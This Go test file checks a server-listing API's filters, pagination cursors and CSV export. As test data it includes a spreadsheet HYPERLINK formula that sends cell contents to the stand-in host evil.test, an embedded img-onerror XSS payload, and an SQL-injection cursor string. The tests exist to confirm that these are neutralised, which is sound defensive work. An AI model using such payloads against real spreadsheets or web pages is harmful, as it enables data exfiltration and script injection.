package api_test

import (
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"serversync/api"
)

// formula is a name that a spreadsheet must not work out, nor a page show.
const formula = `=HYPERLINK("https://evil.test/?"&A1,"<img src=x onerror=alert(1)>")`

// listed makes servers to be listed: 9001 to 9006, found one an hour, of the users
// 41 and 42.
func (s *system) listed(t *testing.T) {
	t.Helper()
	s.exec(t, `
		INSERT INTO virtfusion_hourly_billing (id, user_id, server_id, virtfusion_server_id, package_id, package_name, monthly_price, hourly_rate, billing_enabled, hours_in_month)
		VALUES (901, 41, 9001, 9001, 5, 'Small', 10, 0.01, true, 730), (902, 42, 9002, 9002, 6, 'Big', 20, 0.01, false, 730), (903, 41, 9003, 9003, 5, 'Small', 10, 0.01, true, 730);
		INSERT INTO serversync.servers (virtfusion_id, uuid, owner_id, user_id, name, hostname, state, suspended, package_id, memory_mb, storage_gb, traffic_gb, cpu_cores, ip_addresses,
			hypervisor_id, hypervisor_name, created_at, updated_at, status, billing, billing_reason, billing_id, note, awaiting_run, gone_at, settle_until,
			observed_at, observed_source, observed_event_id, first_seen_at, last_seen_at)
		SELECT id, uuid, owner, usr, name, host, 'running', id = 9002, package, 1024, 25, NULL, 2, addresses::text[],
			1, hv, created::timestamptz, '2026-02-20T00:00Z'::timestamptz, status, billing, reason, row, 'why', awaits, CASE WHEN status = 'gone' THEN '2026-03-01T00:00Z'::timestamptz END,
			CASE WHEN status IN ('settling', 'external') THEN '2026-03-01T12:00Z'::timestamptz END,
			'2026-03-01T00:00Z', 'sweep', '', '2026-03-01T00:00Z'::timestamptz + (id - 9000) * '1 h'::interval, '2026-03-01T10:00Z'::timestamptz + (id - 9000) * '1 min'::interval
		FROM (VALUES
			(9001, 'aaaaaaaa-0000-4000-8000-000000009001', 70, 41, 'Web-1', 'web.anna.example', 5, '{192.0.2.1,2001:db8:0:1::5}', 'hv-a', '2026-01-01', 'external', 'on', NULL, 901, ''),
			(9002, '', 71, 42, ?0, 'x.boris.example', 6, '{192.0.2.200}', 'hv-b', '2026-01-02', 'external', 'off', 'disabled_by_skypanel', 902, 'waits'),
			(9003, '', 70, 41, 'mail', 'mail.anna.example', 5, '{198.51.100.3}', 'hv-a', NULL, 'native', 'on', NULL, 903, ''),
			(9004, '', 70, 41, 'old', '', NULL, '{}', 'hv-a', '2026-01-03', 'gone', 'off', 'destroyed', NULL, ''),
			(9005, '', 0, NULL, '@nobody', '', NULL, '{2001:db8:0:1::/64}', '', '2026-01-04', 'unlinked', 'off', NULL, NULL, ''),
			(9006, '', 71, 42, 'new', '', 5, '{198.51.100.6}', 'hv-b', '2026-01-05', 'settling', 'off', NULL, NULL, '')
			) AS v (id, uuid, owner, usr, name, host, package, addresses, hv, created, status, billing, reason, row, awaits);
		INSERT INTO serversync.billing_rows (billing_id, virtfusion_id, made_by, user_id, enabled, package_id, monthly_price, run_id, created_at, updated_at)
		VALUES (901, 9001, 'serversync', 41, true, 5, 10, 'run9', '2026-02-28T01:00Z', now()), (902, 9002, 'serversync', 42, true, 6, 20, NULL, '2026-03-01T01:00Z', now());
		INSERT INTO serversync.lag_samples (at, events, seconds) VALUES ('2026-03-01T10:00Z', 7, 3.5), ('2026-03-01T10:01Z', 12, NULL)`, formula)
}

// ids are as many ids of servers, from 9001 on.
func ids(n int) string {
	all := make([]string, n)
	for i := range all {
		all[i] = strconv.Itoa(9001 + i)
	}
	return strings.Join(all, ",")
}

// servers lists with a query, page by page, and returns the ids.
func (s *system) servers(t *testing.T, query string) string {
	t.Helper()
	var pages []string
	for cursor := ""; ; {
		page := data[api.Page[api.ListedServer]](t, s.admin(t, http.MethodGet, "/api/admin/servers?"+query+cursor))
		var ids []string
		for i := range page.Items {
			ids = append(ids, strconv.FormatInt(page.Items[i].ID-9000, 10))
		}
		pages = append(pages, strings.Join(ids, " "))
		if page.NextCursor == nil {
			return strings.Join(pages, " | ")
		}
		cursor = "&cursor=" + *page.NextCursor
	}
}

func TestServers(t *testing.T) {
	t.Parallel()
	s := setup(t)
	if a := s.admin(t, http.MethodGet, "/api/admin/servers"); string(a.body.Data) != `{"items":[],"nextCursor":null}` {
		t.Errorf("none: %s", a.raw)
	}
	s.people(t)
	s.listed(t)
	a := s.admin(t, http.MethodGet, "/api/admin/servers")
	page := data[api.Page[api.ListedServer]](t, a)
	boris, first := page.Items[3], page.Items[4]
	if first.ID != 9001 || first.Name != "Web-1" || *first.UserID != 41 || first.Owner != 70 || first.State != "running" || first.Suspended || first.IPAddresses[1] != "2001:db8:0:1::5" ||
		*first.Resources.MemoryMB != 1024 || first.Resources.TrafficGB != nil || *first.Resources.CPUCores != 2 || *first.Resources.StorageGB != 25 ||
		first.Hypervisor != "hv-a" || *first.HypervisorID != 1 || *first.PackageID != 5 || first.Status != "external" || first.Billing != "on" || first.BillingReason != nil ||
		*first.BillingID != 901 || *first.MonthlyPrice != "10.00" || *first.EffectiveMonthly != "7.30" || first.Note != "why" || first.AwaitingRun != nil ||
		first.SettleUntil != nil || page.Items[0].SettleUntil == nil || !page.Items[0].SettleUntil.Equal(noon()) || page.Items[1].SettleUntil != nil ||
		first.CreatedAt.Format(time.DateOnly) != "2026-01-01" || first.FirstSeenAt.Hour() != 1 || first.LastSeenAt.Minute() != 1 || first.GoneAt != nil {
		t.Errorf("%+v", first)
	}
	if boris.Name != formula || *boris.AwaitingRun != "waits" || *boris.BillingReason != "disabled_by_skypanel" || !boris.Suspended {
		t.Errorf("%+v", boris)
	}
	if strings.ContainsAny(a.raw, "<>") {
		t.Errorf("the JSON holds what a page could take for more than text: %s", a.raw)
	}

	for query, want := range map[string]string{
		"id=9003": "3", "id=9001,9006": "6 1", "id=9001,9001": "1", "id=9004": "", "id=9004,9001&status=all": "4 1", "id=9004&status=gone": "4", "id=9001,9002&billing=on": "1", "id=9002&user=41": "",
		"id=99": "", "id=9223372036854775807": "", "id=": "6 5 3 2 1", "id=9001,9003,9006&limit=1&sort=id": "1 | 3 | 6", "id=" + ids(200): "6 5 3 2 1", "id=9001&q=web": "1", "id=9003&q=web": "",
		"": "6 5 3 2 1", "status=all": "6 5 4 3 2 1", "status=gone": "4", "status=external": "2 1", "status=native,gone": "4 3", "status=": "6 5 3 2 1",
		"billing=on": "3 1", "billing=off": "6 5 2", "reason=disabled_by_skypanel": "2", "reason=unpriced,disabled_by_skypanel": "2", "reason=destroyed": "", "reason=destroyed&status=all": "4",
		"user=41": "3 1", "user=42&status=all": "6 2", "user=99": "", "owner=70": "3 1", "owner=0": "5", "package=5": "6 3 1", "package=99": "", "awaiting=true": "2", "awaiting=false": "6 5 3 1",
		"hypervisor=hv-a": "3 1", "hypervisor=HV-A": "3 1", "hypervisor=1": "6 5 3 2 1", "hypervisor=2": "", "hypervisor=hv": "",
		"created_after=2026-01-02": "6 5 2", "created_before=2026-01-02": "1", "created_after=2026-01-02T00:00:00Z&created_before=2026-01-04": "2", "created_before=2030-01-01": "6 5 2 1",
		"seen_before=2026-03-01T10:03:00Z": "2 1", "seen_before=2026-03-01": "",
		"q=web": "1", "q=WEB-1": "1", "q=b-": "1", "q=9003": "3", "q=000-00": "1", "q=192.0.2": "2 1", "q=an": "3 1", "q=hyperlink(": "2", "q=%25%25": "", "q=__": "", "q=Web-1web": "", "q=nobody+": "5",
		"q=" + url.QueryEscape(`"&A1,"<`): "2", "q=%27%27": "", "q=%5C%5C": "", "q=mail.anna.example": "3",
		"ip=192.0.2.1": "1", "ip=192.0.2.200": "2", "ip=192.0.2.20": "", "ip=192.0.2.0/24": "2 1", "ip=192.0.2.128/25": "2", "ip=192.0.0.0/8": "2 1", "ip=10.0.0.0/8": "",
		"ip=2001:db8:0:1::5": "5 1", "ip=2001:db8:0:1::6": "5", "ip=2001:0DB8:0:1:0:0:0:5": "5 1", "ip=2001:db8::/32": "5 1", "ip=2001:db8:0:2::/64": "", "ip=2001:db8:0:1::/64": "5 1",
		"sort=id": "1 2 3 5 6", "sort=-id": "6 5 3 2 1", "sort=name": "2 5 3 6 1", "sort=-name": "1 6 3 5 2", "sort=created": "3 1 2 5 6", "sort=-created": "6 5 2 1 3", "sort=first_seen": "1 2 3 5 6",
		"sort=updated": "1 2 3 5 6", "sort=status": "1 2 3 6 5", "sort=user": "5 1 3 2 6", "sort=-user": "6 2 3 1 5",
		"limit=2": "6 5 | 3 2 | 1", "limit=5": "6 5 3 2 1", "limit=9999": "6 5 3 2 1", "sort=name&limit=2": "2 5 | 3 6 | 1", "sort=-user&limit=1": "6 | 2 | 3 | 1 | 5", "sort=created&limit=1": "3 | 1 | 2 | 5 | 6",
		"sort=status&limit=2&status=all": "1 2 | 4 3 | 6 5", "sort=-updated&limit=2": "6 5 | 3 2 | 1", "sort=id&limit=4": "1 2 3 5 | 6", "sort=first_seen&limit=3": "1 2 3 | 5 6",
		"seen_before=2026-03-02&limit=2": "6 5 | 3 2 | 1",
	} {
		if got := s.servers(t, query); got != want {
			t.Errorf("%s: %s, want %s", query, got, want)
		}
	}
}

func TestServersRefuse(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.people(t)
	s.listed(t)
	place := func(json string) string { return base64.RawURLEncoding.EncodeToString([]byte(json)) }
	page := data[api.Page[api.ListedServer]](t, s.admin(t, http.MethodGet, "/api/admin/servers?limit=1&sort=name"))
	for query, want := range map[string]string{
		"id=x": "bad_id", "id=0": "bad_id", "id=-1": "bad_id", "id=9001,": "bad_id", "id=,": "bad_id", "id=9001,%209002": "bad_id", "id=1.5": "bad_id", "id=9223372036854775808": "bad_id", "id=" + ids(201): "bad_id",
		"status=dead": "bad_status", "status=external,": "bad_status", "status=all,gone": "bad_status", "billing=yes": "bad_billing", "reason=none": "bad_reason",
		"user=0": "bad_user", "user=x": "bad_user", "user=2147483648": "bad_user", "owner=-1": "bad_owner", "owner=x": "bad_owner", "package=1.5": "bad_package", "awaiting=1": "bad_awaiting",
		"q=a": "bad_q", "q=+a+": "bad_q", "q=+": "bad_q", "q=" + strings.Repeat("a", 201): "bad_q", "q=a%00b": "bad_q", "q=a%0ab": "bad_q", "q=%ff%ff": "bad_q",
		"ip=300.0.0.1": "bad_ip", "ip=192.0.2": "bad_ip", "ip=0.0.0.0/0": "bad_ip", "ip=::/0": "bad_ip", "ip=fe80::1%25eth0": "bad_ip", "ip=192.0.2.0/33": "bad_ip", "ip=::ffff:192.0.2.1": "bad_ip",
		"hypervisor=" + strings.Repeat("a", 201): "bad_hypervisor", "hypervisor=a%00": "bad_hypervisor",
		"created_after=yesterday": "bad_created_after", "created_before=2026-13-01": "bad_created_before", "seen_before=0000-01-01": "bad_seen_before", "seen_before=1e9": "bad_seen_before",
		"sort=": "", "sort=price": "bad_sort", "sort=--id": "bad_sort", "sort=id,name": "bad_sort", "sort=virtfusion_id;": "bad_query",
		"limit=0": "bad_limit", "limit=-1": "bad_limit", "limit=x": "bad_limit", "cursor=x": "bad_cursor", "cursor=" + strings.Repeat("A", 5000): "bad_cursor",
		"cursor=" + *page.NextCursor: "bad_cursor", "sort=-name&cursor=" + *page.NextCursor: "bad_cursor", "sort=name&cursor=" + *page.NextCursor: "",
		"cursor=" + place(`{"s":"-first_seen","k":"x","i":1}`):                           "bad_cursor",
		"cursor=" + place(`{"s":"-first_seen","k":"9223372036854775807","i":1}`):         "bad_cursor",
		"cursor=" + place(`{"s":"-first_seen","k":"1","i":-1}`):                          "bad_cursor",
		"cursor=" + place(`{"s":"-first_seen"}`):                                         "bad_cursor",
		"cursor=" + place(`[]`):                                                          "bad_cursor",
		"sort=name&cursor=" + place(`{"s":"name","k":"a\u0000","i":1}`):                  "bad_cursor",
		"sort=name&cursor=" + place(`{"s":"name","k":"' OR 1=1; --","i":1}`):             "",
		"sort=user&cursor=" + place(`{"s":"user","k":"-1","i":1}`):                       "bad_cursor",
		"sort=created&cursor=" + place(`{"s":"created","k":"-62135596800000000","i":1}`): "",
		"sort=created&cursor=" + place(`{"s":"created","k":"-62135596800000001","i":1}`): "bad_cursor",
		"users=41": "unknown_parameter", "Status=all": "unknown_parameter", "dryRun=true": "unknown_parameter", "=x": "unknown_parameter", "q=aa&q=bb": "repeated_parameter", "q=%zz": "bad_query",
	} {
		a := s.admin(t, http.MethodGet, "/api/admin/servers?"+query)
		if got := a.body.Error.Code; got != want || (a.status == http.StatusBadRequest) != (want != "") {
			t.Errorf("%.80s = %d %.200s, want %s", query, a.status, a.raw, want)
		}
	}
	if a := s.admin(t, http.MethodGet, "/api/admin/servers?users=41"); !strings.Contains(a.body.Error.Message, `"users"`) {
		t.Errorf("nobody is told what is unknown: %s", a.raw)
	}
	for _, query := range []string{"limit=5", "cursor=x"} { // a file has no pages
		if a := s.admin(t, http.MethodGet, "/api/admin/servers.csv?"+query); a.body.Error.Code != "unknown_parameter" {
			t.Errorf("%s: %s", query, a.raw)
		}
	}
}

// A user lists their own servers, without what is the operators' affair.
func TestOwnServers(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.people(t)
	s.listed(t)
	key := withKey(s.addKey(t, anna, 1, "{read:servers}", ""))
	own := func(query string) answer {
		t.Helper()
		return s.send(t, http.MethodGet, "/api/user/servers?"+query, key, "")
	}
	for query, want := range map[string]string{
		"id=9001": "9001", "id=9001,9002,9005": "9001", "id=9002": "", "id=9004&status=all": "9004", "id=9002&status=all": "",
		"": "9003 9001", "status=all": "9004 9003 9001", "q=web": "9001", "q=boris": "", "ip=192.0.2.0/24": "9001", "hypervisor=hv-b": "", "sort=name&limit=1": "9003", "seen_before=2030-01-01": "9003 9001",
	} {
		var ids []string
		for _, v := range data[api.Page[api.UserServer]](t, own(query)).Items {
			ids = append(ids, strconv.FormatInt(v.ID, 10))
		}
		if got := strings.Join(ids, " "); got != want {
			t.Errorf("%s: %s, want %s", query, got, want)
		}
	}
	for _, name := range []string{"user", "owner", "awaiting"} {
		if a := own(name + "=42"); a.body.Error.Code != "unknown_parameter" {
			t.Errorf("%s: %s", name, a.raw)
		}
	}
	if a := own(""); strings.Contains(a.raw, "note") || strings.Contains(a.raw, "owner") || strings.Contains(a.raw, "awaitingRun") {
		t.Errorf("a customer is shown %s", a.raw)
	}
	theirs := s.send(t, http.MethodGet, "/api/user/servers?id=9006", withKey(s.addKey(t, boris, 2, "{read:servers}", "")), "")
	if got := data[api.Page[api.UserServer]](t, theirs).Items; len(got) != 1 || got[0].SettleUntil == nil || !got[0].SettleUntil.Equal(noon()) {
		t.Errorf("boris's server that settles: %s", theirs.raw)
	}
	// A cursor of somebody else's page opens nothing of theirs.
	page := data[api.Page[api.ListedServer]](t, s.admin(t, http.MethodGet, "/api/admin/servers?limit=1"))
	if got := data[api.Page[api.UserServer]](t, own("cursor="+*page.NextCursor)); len(got.Items) != 2 {
		t.Errorf("%+v", got)
	}
}

// sheetOf reads a file as a spreadsheet does, a map for each line.
func (s *system) sheetOf(t *testing.T, path string) ([]map[string]string, answer) {
	t.Helper()
	a := s.admin(t, http.MethodGet, path)
	lines, err := csv.NewReader(strings.NewReader(a.raw)).ReadAll()
	if err != nil || a.status != http.StatusOK {
		t.Fatalf("%s = %d, %v: %s", path, a.status, err, a.raw)
	}
	var all []map[string]string
	for _, line := range lines[1:] {
		row := make(map[string]string, len(line))
		for i, cell := range line {
			row[lines[0][i]] = cell
		}
		all = append(all, row)
	}
	return all, a
}

func TestServersAsCSV(t *testing.T) {
	t.Parallel()
	s := setup(t)
	if rows, _ := s.sheetOf(t, "/api/admin/servers.csv"); len(rows) != 0 {
		t.Errorf("none: %v", rows)
	}
	s.people(t)
	s.listed(t)
	rows, a := s.sheetOf(t, "/api/admin/servers.csv?status=all&sort=id")
	if h := a.header; h.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || h.Get("Content-Disposition") != `attachment; filename="servers-2026-03-01.csv"` ||
		h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
		t.Errorf("%v", h)
	}
	if len(rows) != 6 || rows[0]["name"] != "Web-1" || rows[0]["ip_addresses"] != "192.0.2.1 2001:db8:0:1::5" || rows[0]["monthly_price"] != "10.00" || rows[0]["effective_monthly"] != "7.30" ||
		rows[0]["first_seen_at"] != "2026-03-01T01:00:00Z" || rows[0]["gone_at"] != "" || rows[3]["gone_at"] == "" || rows[1]["awaiting_run"] != "waits" || rows[0]["user_id"] != "41" || rows[4]["user_id"] != "" {
		t.Errorf("%v", rows)
	}
	if rows[1]["name"] != "'"+formula || rows[4]["name"] != "'@nobody" {
		t.Errorf("formulas: %q, %q", rows[1]["name"], rows[4]["name"])
	}
	if rows, _ := s.sheetOf(t, "/api/admin/servers.csv?id=9002,9006&sort=id"); len(rows) != 2 || rows[0]["id"] != "9002" || rows[0]["settle_until"] != "" || rows[1]["settle_until"] != "2026-03-01T12:00:00Z" {
		t.Errorf("by id: %v", rows)
	}
	if rows, _ := s.sheetOf(t, "/api/admin/servers.csv?user=41&sort=-name&q=an"); len(rows) != 2 || rows[0]["id"] != "9001" {
		t.Errorf("filtered: %v", rows)
	}
	// Whatever a name is, no cell begins a formula, and no line breaks the file.
	for i, name := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", `"quoted",`, "a\nb", "ünïcödé 漢字", "'=1"} {
		s.exec(t, `UPDATE serversync.servers SET name = ?, hostname = ?, state = ?, note = ?, hypervisor_name = ? WHERE virtfusion_id = 9001`, name, name, name, name, name)
		rows, a := s.sheetOf(t, "/api/admin/servers.csv?user=41&sort=id")
		for column, cell := range rows[0] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r\n") {
				t.Errorf("%d: %s is %q", i, column, cell)
			}
		}
		if got := strings.TrimPrefix(rows[0]["name"], "'"); got != name && got != strings.ReplaceAll(name, "\r", "") && "'"+got != name || len(rows) != 2 {
			t.Errorf("%q came as %q: %s", name, got, a.raw)
		}
	}
}

// More lines than are in memory at once arrive, each once.
func TestALongCSV(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.exec(t, `INSERT INTO serversync.servers (virtfusion_id, name, status, observed_at, observed_source, observed_event_id, first_seen_at, last_seen_at)
		SELECT i, 'n' || i % 7, 'external', now(), '', '', '2026-01-01', now() FROM generate_series(1, 2500) AS i`)
	for _, path := range []string{"/api/admin/servers.csv", "/api/admin/servers.csv?sort=name", "/api/admin/reports/external.csv"} {
		rows, _ := s.sheetOf(t, path)
		seen := map[string]bool{}
		for _, row := range rows {
			seen[row["id"]] = true
		}
		if len(rows) != 2500 || len(seen) != 2500 {
			t.Errorf("%s: %d lines, %d servers", path, len(rows), len(seen))
		}
	}
	// A fault on the way cuts the connection: what came must not pass for all.
	s.exec(t, `UPDATE serversync.servers SET last_seen_at = 'infinity' WHERE virtfusion_id = 1700`)
	for _, path := range []string{"/api/admin/servers.csv?sort=id", "/api/admin/reports/external.csv"} {
		request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, s.url+path, http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		request.Header.Set("Authorization", "Bearer "+testToken)
		response, err := http.DefaultClient.Do(request)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := csv.NewReader(response.Body).ReadAll(); err == nil {
			t.Errorf("%s came to an end as if it were whole", path)
		}
		_ = response.Body.Close()
	}
	if !strings.Contains(s.log.String(), "could not be finished") {
		t.Error("nobody is told that a file was cut")
	}
	// One before the first line is answered as any other.
	s.exec(t, `UPDATE serversync.servers SET last_seen_at = 'infinity' WHERE virtfusion_id = 1`)
	if a := s.admin(t, http.MethodGet, "/api/admin/servers.csv?sort=id"); a.status != http.StatusInternalServerError || a.header.Get("Content-Disposition") != "" {
		t.Errorf("%d %v %s", a.status, a.header, a.raw)
	}
}

// Whatever comes, goes and changes while somebody turns pages: no server that was
// there all the time is missing or comes twice.
func TestPagesAreStable(t *testing.T) {
	t.Parallel()
	s := setup(t)
	rapid.Check(t, func(r *rapid.T) {
		s.exec(t, `DELETE FROM serversync.servers`)
		add := func(id int, staying bool) {
			user := rapid.IntRange(0, 2).Draw(r, "user")
			s.exec(t, `INSERT INTO serversync.servers (virtfusion_id, name, user_id, owner_id, status, created_at, updated_at, observed_at, observed_source, observed_event_id, first_seen_at, last_seen_at)
				VALUES (?0, ?1, nullif(?2, 0), ?3, ?4, nullif('2026-01-01'::timestamptz + ?5 * '1 h'::interval, '2026-01-01'), '2026-01-01'::timestamptz + ?5 * '1 h'::interval, now(), '', '', '2026-01-01'::timestamptz + ?5 * '1 us'::interval, now())
				ON CONFLICT DO NOTHING`,
				id, rapid.SampledFrom([]string{"", "a", "A", "ä", "b", "B"}).Draw(r, "name"), user, map[bool]int{true: 1, false: 2}[staying],
				rapid.SampledFrom([]string{"external", "native", "conflict"}).Draw(r, "status"), rapid.IntRange(0, 3).Draw(r, "when"))
		}
		staying := rapid.IntRange(0, 12).Draw(r, "staying")
		for i := range staying {
			add(2*i+1, true)
		}
		for range rapid.IntRange(0, 5).Draw(r, "others") {
			add(2*rapid.IntRange(0, 12).Draw(r, "other"), false)
		}
		sort := rapid.SampledFrom([]string{"id", "name", "created", "updated", "first_seen", "status", "user"}).Draw(r, "sort")
		query := fmt.Sprintf("sort=%s%s&limit=%d", rapid.SampledFrom([]string{"", "-"}).Draw(r, "direction"), sort, rapid.IntRange(1, 5).Draw(r, "limit"))
		seen := map[int64]int{}
		for cursor := ""; ; {
			page := data[api.Page[api.ListedServer]](t, s.admin(t, http.MethodGet, "/api/admin/servers?"+query+cursor))
			for i := range page.Items {
				seen[page.Items[i].ID]++
			}
			if page.NextCursor == nil {
				break
			}
			cursor = "&cursor=" + *page.NextCursor
			switch rapid.IntRange(0, 2).Draw(r, "meanwhile") {
			case 0:
				add(2*rapid.IntRange(0, 12).Draw(r, "new"), false)
			case 1:
				s.exec(t, `DELETE FROM serversync.servers WHERE owner_id = 2 AND virtfusion_id = ?`, 2*rapid.IntRange(0, 12).Draw(r, "going"))
			case 2:
				s.exec(t, `UPDATE serversync.servers SET last_seen_at = now(), note = note || 'x' WHERE virtfusion_id > ?`, rapid.IntRange(0, 25).Draw(r, "touched"))
			}
		}
		for i := range staying {
			if n := seen[int64(2*i+1)]; n != 1 {
				r.Fatalf("%s: server %d came %d times: %v", query, 2*i+1, n, seen)
			}
		}
	})
}

func TestExternalReport(t *testing.T) {
	t.Parallel()
	s := setup(t)
	s.people(t)
	s.listed(t)
	s.exec(t, `INSERT INTO package_pricing (virtfusion_package_id, name, price) VALUES (5, '-Small', 1250);
		INSERT INTO virtfusion_hourly_transactions (id, billing_id, user_id, server_id, billing_period_start) VALUES (77, 901, 41, 9001, '2026-02-28 02:00');
		UPDATE serversync.billing_rows SET charge_id = 77 WHERE billing_id = 901; UPDATE users SET email = '+anna@example.test' WHERE id = 41`)
	rows, a := s.sheetOf(t, "/api/admin/reports/external.csv")
	if a.header.Get("Content-Disposition") != `attachment; filename="external-servers-2026-03-01.csv"` || len(rows) != 2 {
		t.Fatalf("%v %s", a.header, a.raw)
	}
	for column, want := range map[string]string{
		"id": "9001", "user_id": "41", "user_email": "'+anna@example.test", "owner": "70", "package": "Small", "list_price": "12.50", "monthly_price": "10.00", "effective_monthly": "7.30",
		"billing": "on", "billing_reason": "", "billing_id": "901", "first_seen_at": "2026-03-01T01:00:00Z", "recorded_at": "2026-02-28T01:00:00Z", "billed_since": "2026-02-28T02:00:00Z", "run": "run9",
	} {
		if got := rows[0][column]; got != want {
			t.Errorf("%s: %q, want %q", column, got, want)
		}
	}
	if rows[1]["name"] != "'"+formula || rows[1]["billing_reason"] != "disabled_by_skypanel" || rows[1]["list_price"] != "" || rows[1]["billed_since"] != "2026-03-01T01:00:00Z" {
		t.Errorf("%v", rows[1])
	}
	if keys := slices.Sorted(func(yield func(string) bool) {
		for k := range rows[0] {
			if !yield(k) {
				return
			}
		}
	}); len(keys) != 22 {
		t.Errorf("%d columns", len(keys))
	}
}
